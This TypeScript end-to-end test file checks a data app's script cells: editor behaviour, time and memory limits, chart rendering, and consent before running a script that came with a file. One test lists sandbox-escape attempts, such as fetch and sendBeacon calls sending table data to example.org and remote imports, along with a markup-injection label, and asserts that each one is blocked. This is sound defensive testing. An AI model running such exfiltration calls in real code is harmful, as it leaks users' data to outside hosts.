import type { Browser, Locator, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { findAccessibilityFaults } from '../support/axe';
import { openApp, type AppPage, type PageFailure, type PageGlobal } from '../support/app-page';
import { launch } from '../support/browser';
import { serveBuild, type Served } from '../support/serve';

let served: Served;
let browser: Browser;
let app: AppPage;
let page: Page;
let requests: string[];

beforeAll(async () => {
  served = await serveBuild();
  browser = await launch();
  app = await openApp(browser, served.address);
  page = app.page;
  requests = [];
  page.context().on('request', (request) => requests.push(request.url()));
  await app.open({ name: 'people.csv', bytes: 'name,age,big\nAda,36,9007199254740993\nBob,,2\n' });
});

afterAll(async () => {
  await app?.close();
  await browser?.close();
  await served?.close();
});

const failureOf = (code: string, timeLimit = 30): Promise<PageFailure> =>
  app.failureOf('profile.script', { params: { code, timeLimit } });

const articleOf = (id: string): Locator => page.locator(`#cell-${id}`);

describe('script cells', () => {
  /** The page answers, and the table that was there before is as it was. */
  afterEach(async () => {
    expect(app.errors).toEqual([]);
    expect(await app.query('SELECT count(*)::INT, sum(age)::INT FROM people')).toEqual([[2, 36]]);
  });

  it('make a table out of tables, exactly, which other cells read', async () => {
    await app.add('source.script', {
      name: 'made',
      params: {
        code: `const { name, age, big } = tables.people.columns;
          return { name, known: age.toArray().map((value) => value !== null), next: Array.from(big.values, (value) => value + 1n) };`,
      },
    });
    expect(await app.query('SELECT name, known, next FROM made')).toEqual([
      ['Ada', true, 9007199254740994n],
      ['Bob', false, 3n],
    ]);
  });

  it('are typed into an editor, run by keyboard, and mark the line of an error', async () => {
    const id = await app.add('profile.script', { params: { code: 'return 1' } });
    const article = articleOf(id);
    await article.locator('.cm-content').click();
    await page.keyboard.press('Control+a');
    await page.keyboard.insertText(
      'console.log("seen");\nconst n = tables.people.rowCount;\nreturn m;',
    );
    await page.keyboard.press('Control+Enter');
    await article.getByText("'m' is not defined").first().waitFor();
    await expect.poll(() => article.locator('.cm-lintRange-error').textContent()).toBe('m');
    expect(
      await article.getByRole('region', { name: 'Written before it failed' }).textContent(),
    ).toBe('seen');
    await page.keyboard.press('Backspace');
    await page.keyboard.press('Backspace');
    await page.keyboard.insertText('n;');
    await page.keyboard.press('Control+Enter');
    await article.getByText('The script returned 2', { exact: true }).waitFor();
    expect(await findAccessibilityFaults(page)).toEqual([]);
  });

  it('draw figures, with our own scene or with Plotly', async () => {
    const bar = `{ data: [{ type: 'bar', x: ['a', '<img src=x>'], y: [1, 2] }], layout: { title: 'Bars' } }`;
    const pie = `{ data: [{ type: 'pie', labels: ['a', 'b'], values: [1, 2] }], layout: { title: 'Pie' } }`;
    const id = await app.add('profile.script', { params: { code: `return [${bar}, ${pie}]` } });
    await articleOf(id).scrollIntoViewIfNeeded();
    await articleOf(id).getByRole('img', { name: /^Bars/ }).waitFor();
    await articleOf(id).locator('.pielayer .slice').first().waitFor();
    expect(await articleOf(id).locator('img').count()).toBe(0);
  });

  it('end at their time limit, also in the middle of one long step, or when cancelled', async () => {
    expect(await failureOf('for (;;);', 1)).toMatchObject({ code: 'timed_out' });
    const step =
      'const a = Array.from({ length: 1e6 }, (_, i) => i % 7919); for (;;) a.slice().sort()';
    expect((await failureOf(step, 1)).message).toMatch(/stopped after 1 seconds/);
    const running = failureOf('for (;;);');
    await page.getByRole('button', { name: 'Cancel' }).last().click();
    expect((await running).code).toBe('cancelled');
  });

  it('end when they take too much memory', async () => {
    const failure = await failureOf('const a = []; for (;;) a.push(new Float64Array(2e7))');
    expect(failure.code).toBe('out_of_memory');
    expect(failure.message).toMatch(/needed more memory than/);
  });

  it.each([
    'fetch("https://example.org/?" + tables.people.columns.name.get(0))',
    'new WebSocket("wss://example.org")',
    'new RTCPeerConnection()',
    'await import("https://example.org/x.js")',
    'await import("/?" + tables.people.columns.name.get(0))',
    'new BroadcastChannel("x").postMessage(1)',
    'navigator.sendBeacon("https://example.org")',
    'new Worker("data:text/javascript,1")',
    'postMessage({ type: "call", id: 1, method: "query", args: { sql: "SELECT 1" } })',
    'new Function("return fetch")()("https://example.org")',
  ])('have no way out: %s', async (code) => {
    requests = [];
    expect((await failureOf(code)).code).toBe('script_failed');
    const foreign = requests.filter((url) => !url.replace(/^blob:/, '').startsWith(served.address));
    expect(foreign).toEqual([]);
    expect(requests.filter((url) => url.includes('?'))).toEqual([]);
  });

  it('name line and place of a syntax error, without running', async () => {
    expect(await failureOf('console.log(1);\nconst = 5')).toMatchObject({
      code: 'script_failed',
      details: { line: 2 },
    });
  });
});

describe('a script that came with a file', () => {
  it('runs only when a person has agreed', async () => {
    const params = { code: 'return "it ran"' };
    const cell = { id: 'c1', operator: 'profile.script', name: 'sent', inputs: {}, params };
    await page.evaluate(
      (text) => (globalThis as unknown as PageGlobal).assay.load(new Blob([text])),
      JSON.stringify({ format: 1, title: 'Sent', cells: [cell] }),
    );
    await page.getByText('This script was not written here').waitFor();
    await articleOf('c1').locator('.line button').first().click();
    await page.getByText('holds a script that came with a file').first().waitFor();
    expect(await page.getByText('The script returned').count()).toBe(0);
    expect(await findAccessibilityFaults(page)).toEqual([]);
    await page.getByRole('button', { name: 'Run this script' }).click();
    await page.getByText('The script returned it ran').waitFor();
    expect(app.errors).toEqual([]);
  });
});
